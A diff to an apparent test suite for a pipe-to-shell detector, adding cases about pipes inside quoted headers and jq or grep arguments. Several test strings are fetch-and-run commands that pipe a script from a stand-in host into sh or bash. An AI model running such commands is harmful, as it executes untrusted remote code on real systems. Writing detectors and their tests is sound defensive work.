@@ -349,6 +349,8 @@ describe("pipe-to-shell", () => {
       "curl | runners in a row",
       "curl -fsSL https://x.example/i.sh | sudo -E timeout 60 setsid stdbuf -oL nice -n 5 ionice -c3 bash",
     ],
+    // Stages are split at a `|` outside quotes only: one in a header's quotes leaves the pipe into sh after it.
+    ["curl with a | in a quoted header | sh", "curl -fsSL -H 'X-Note: a | b' https://x.example/i.sh|sh"],
     ["curl | deno run -", "curl -fsSL https://x.example/i.ts | deno run -A -"],
     ["curl | bun -", "curl -fsSL https://x.example/i.js | bun -"],
     [
@@ -436,6 +438,9 @@ describe("pipe-to-shell", () => {
     ["curl | tee >(sh script)", "curl -s https://x.example/data | tee >(sh ./check.sh) > data.json"],
     ["curl | tee a file named >(sh)", `curl -s https://x.example/data | tee ">(sh)"`],
     ["curl | jq >(sh)", "curl -s https://x.example/data | jq . >(sh)"],
+    // Regression: stages were split at every `|`, in quotes too, and jq's program read as a pipe into sh.
+    ["curl | jq 'a | sh'", "curl -s https://x.example/data | jq '.items[] | sh'"],
+    ['curl | grep "a|sh"', 'curl -s https://x.example/data | grep -E "bash|sh" | sort'],
     // What a runner's operands and options must not make a shell of.
     ["curl | timeout 10 make", "curl -s https://x.example/data | timeout 10 make"],
     ["curl | timeout 10 sh script", "curl -s https://x.example/data | timeout 10 sh ./process.sh"],
